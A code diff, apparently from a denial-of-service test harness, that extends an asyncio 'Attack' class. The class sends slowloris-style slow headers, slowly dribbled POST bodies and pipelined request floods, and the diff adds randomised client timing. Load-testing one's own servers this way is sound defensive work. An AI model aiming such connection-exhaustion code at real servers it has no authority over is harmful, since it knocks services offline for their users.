@@ -9,11 +9,13 @@ Prints "attacking" when all are at work, and at the end what they saw, as JSON.
 
 import asyncio
 import json
+import random
 import socket
 import sys
 import time
 
 GET = b"GET /small HTTP/1.1\r\nHost: x\r\n\r\n"
+SLOW_HEADERS = (b"GET /small HTTP/1.1\r\nHost: x\r\n", b"X-a: b\r\n")
 FLOOD = GET * 40_000
 HOLD = 1.5  # seconds more for those who cannot see that they were let go before they read
 
@@ -23,6 +25,7 @@ class Attack:
         self.port, self.connections, self.amount = port, connections, amount
         self.seconds = seconds
         self.started = 0
+        self.random = random.Random(1)
         self.seen = dict.fromkeys(("connections", "let_go", "bytes_sent", "answers"), 0)
 
     async def connect(self, receive_buffer=None):
@@ -48,10 +51,13 @@ class Attack:
         except OSError:
             return True
 
-    async def drip(self, head, piece, interval, receive_buffer=None):
-        """Begins with `head`, and goes on with `piece` after `piece`, until it is let go."""
+    async def drip(self, head, piece, interval, in_step=False):
+        """Begins with `head`, and goes on with `piece` after `piece`, until it is let go: each client
+        at times of its own, as those of a network do, or all of them at once."""
+        if not in_step:
+            await asyncio.sleep(self.random.uniform(0, interval))
         while self.goes_on_slowly():
-            client = await self.connect(receive_buffer)
+            client = await self.connect()
             with client:
                 try:
                     await self.send(client, head)
@@ -72,7 +78,10 @@ class Attack:
         return self.goes_on() or not self.seen["let_go"] and time.monotonic() < self.end + 8
 
     async def slow_headers(self):
-        await self.drip(b"GET /small HTTP/1.1\r\nHost: x\r\n", b"X-a: b\r\n", 0.05)
+        await self.drip(*SLOW_HEADERS, 0.05)
+
+    async def slow_headers_in_step(self):
+        await self.drip(*SLOW_HEADERS, 0.05, in_step=True)
 
     async def slow_bodies(self):
         await self.drip(b"POST /small HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n", b"b", 0.05)
